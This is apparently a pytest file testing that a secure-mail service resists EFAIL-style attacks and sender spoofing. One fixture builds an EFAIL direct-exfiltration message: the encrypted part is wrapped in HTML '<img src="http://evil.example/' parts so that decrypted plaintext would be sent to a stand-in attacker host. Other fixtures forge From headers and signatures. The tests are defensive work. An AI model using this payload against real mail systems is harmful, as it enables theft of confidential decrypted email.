"""Encryption spoofing and direct exfiltration (EFAIL, USENIX Security 2018 §4).

Only a root-level encryption gives the lock. An encrypted part anywhere
else (next to plaintext, as an attachment, inside another encryption) is
never decrypted by secmail itself: it would be a decryption oracle when a
webmail quotes it in a reply, and decrypted content is never concatenated
with its siblings.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime

import grpc
import pytest
from adv_support import (
    ALICE,
    BOB,
    EVE,
    MARKER,
    SCHEMES,
    Cast,
    PGPKey,
    V,
    decrypt_rpc,
    encrypt_rpc,
    entity_of,
    error_info,
    expect_attack,
    headers,
    message,
    multipart,
    rfc822_part,
    signed_entity,
    signer_of,
    text_part,
    verify_rpc,
)
from service_support import Client

from secmail.message import PGPSigningKey, Recipients, SMIMESigningKey, encrypt_message
from secmail.verdict import Scheme

Wrapper = Callable[[bytes], bytes]


def _plaintext_next_to_encrypted(enc: bytes) -> bytes:
    return multipart("mixed", text_part(b"Ceci est confidentiel et chiffre:\r\n"), entity_of(enc))


def _encrypted_as_attachment(enc: bytes) -> bytes:
    return multipart("mixed", text_part(b"Voir la piece jointe.\r\n"), rfc822_part(enc))


def _direct_exfiltration(enc: bytes) -> bytes:
    # EFAIL direct exfiltration: the decrypted part would land inside the
    # src attribute of the first HTML part if it were concatenated.
    before = text_part(b'<img src="http://evil.example/', subtype="html")
    after = text_part(b'">', subtype="html")
    return multipart("mixed", before, entity_of(enc), after)


SPOOFS: dict[str, Wrapper] = {
    "plaintext-next-to-encrypted": _plaintext_next_to_encrypted,
    "encrypted-attachment": _encrypted_as_attachment,
    "efail-direct-exfiltration": _direct_exfiltration,
}


@pytest.mark.parametrize("wrap", SPOOFS.values(), ids=SPOOFS.keys())
@pytest.mark.parametrize("scheme", SCHEMES.values(), ids=SCHEMES.keys())
def test_non_root_encrypted_part_is_not_decrypted(academy: Client, scheme: int, wrap: Wrapper) -> None:
    enc = encrypt_rpc(academy, ALICE, message(), scheme, sign=True)
    attack = message(headers(subject="Re: Conseil de classe"), wrap(enc))
    resp = decrypt_rpc(academy, attack)
    v = resp.verdict
    expect_attack(v, banner=V.BANNER_NONE, lock=False, reasons=[V.REASON_ERRANT_CRYPTO_LAYER])
    assert not v.integrity_protected
    assert resp.display_message == attack
    assert MARKER not in resp.display_message


def _encrypt_to_bob(cast: Cast, scheme: int, raw: bytes, *, signer: str | None = None) -> bytes:
    # The signing key is told it holds the From address: secmail's own
    # Encrypt refuses to sign someone else's From, an attacker's tool does not.
    claimed = (ALICE,)
    key: SMIMESigningKey | PGPSigningKey | None = None
    if signer is not None:
        who = signer_of(cast, signer, scheme)
        if isinstance(who, PGPKey):
            key = PGPSigningKey(who.tsk, claimed)
        else:
            key = SMIMESigningKey(who.cert, who.key, who.chain, claimed)
    recipients = (
        Recipients(smime=(cast.bob.cert,))
        if scheme == V.SCHEME_SMIME
        else Recipients(pgp=(cast.pgp_bob.cert,))
    )
    return encrypt_message(
        raw,
        Scheme.SMIME if scheme == V.SCHEME_SMIME else Scheme.OPENPGP,
        recipients,
        signer=key,
        at=datetime.now(UTC),
    )


@pytest.mark.parametrize("scheme", SCHEMES.values(), ids=SCHEMES.keys())
def test_encrypted_part_inside_root_encryption_is_not_decrypted(
    academy: Client, cast: Cast, scheme: int
) -> None:
    """mallory re-encrypts alice's encrypted message inside her own: the outer
    lock is real, the inner ciphertext is shown as ciphertext."""
    genuine = encrypt_rpc(academy, ALICE, message(), scheme, sign=True)
    for inner in (_plaintext_next_to_encrypted(genuine), entity_of(genuine)):
        outer = _encrypt_to_bob(cast, scheme, message(headers(), inner))
        resp = decrypt_rpc(academy, outer)
        expect_attack(resp.verdict, banner=V.BANNER_NONE, lock=True, reasons=[V.REASON_ERRANT_CRYPTO_LAYER])
        assert resp.verdict.integrity_protected
        assert MARKER not in resp.display_message


@pytest.mark.parametrize("scheme", SCHEMES.values(), ids=SCHEMES.keys())
def test_encrypted_only_message_has_lock_and_no_banner(academy: Client, scheme: int) -> None:
    # Control (genuine): the lock alone says nothing about the author.
    enc = encrypt_rpc(academy, ALICE, message(), scheme)
    resp = decrypt_rpc(academy, enc)
    expect_attack(resp.verdict, banner=V.BANNER_NONE, lock=True, reasons=[])
    assert resp.verdict.integrity_protected
    assert MARKER in resp.display_message


@pytest.mark.parametrize("scheme", SCHEMES.values(), ids=SCHEMES.keys())
def test_signature_inside_encryption_binds_the_protected_from(
    academy: Client, cast: Cast, scheme: int
) -> None:
    """eve signs and encrypts a payload whose protected From is alice's and
    sets the outer From to herself: the From shown is the protected one, so
    that is the one compared with eve's key."""
    raw = message(headers(from_=f"Alice <{ALICE}>"))
    enc = _encrypt_to_bob(cast, scheme, raw, signer="eve")
    enc = enc.replace(f"From: Alice <{ALICE}>".encode(), f"From: Eve <{EVE}>".encode(), 1)
    resp = decrypt_rpc(academy, enc)
    v = resp.verdict
    expect_attack(
        v,
        banner=V.BANNER_YELLOW,
        lock=True,
        reasons=[V.REASON_SENDER_MISMATCH, V.REASON_PROTECTED_HEADER_MISMATCH],
    )
    assert v.from_address == ALICE
    assert [list(s.verified_addresses) for s in v.signers] == [[EVE]]
    assert f"From: Alice <{ALICE}>".encode() in resp.display_message


@pytest.mark.parametrize("scheme", SCHEMES.values(), ids=SCHEMES.keys())
def test_signature_over_ciphertext_binds_the_protected_from(academy: Client, cast: Cast, scheme: int) -> None:
    """Encrypt-then-sign: eve signs (From eve) an encryption whose protected
    From is alice's. The shown From is alice's; eve's signature is not hers."""
    inner = _encrypt_to_bob(cast, scheme, message(headers(from_=f"Alice <{ALICE}>")))
    signed = signed_entity(entity_of(inner), signer_of(cast, "eve", scheme))
    attack = message(headers(from_=f"Eve <{EVE}>", subject="[...]"), signed)
    resp = decrypt_rpc(academy, attack)
    v = resp.verdict
    expect_attack(
        v,
        banner=V.BANNER_YELLOW,
        lock=True,
        reasons=[V.REASON_SENDER_MISMATCH, V.REASON_PROTECTED_HEADER_MISMATCH],
    )
    assert v.from_address == ALICE
    # Verify never decrypts: an encryption under the root signature is still
    # a root layer, and the client is told to call Decrypt.
    with pytest.raises(grpc.RpcError) as err:
        verify_rpc(academy, attack)
    assert error_info(err.value) == ("FAILED_PRECONDITION", "ENCRYPTED")
    assert BOB.encode() in resp.display_message
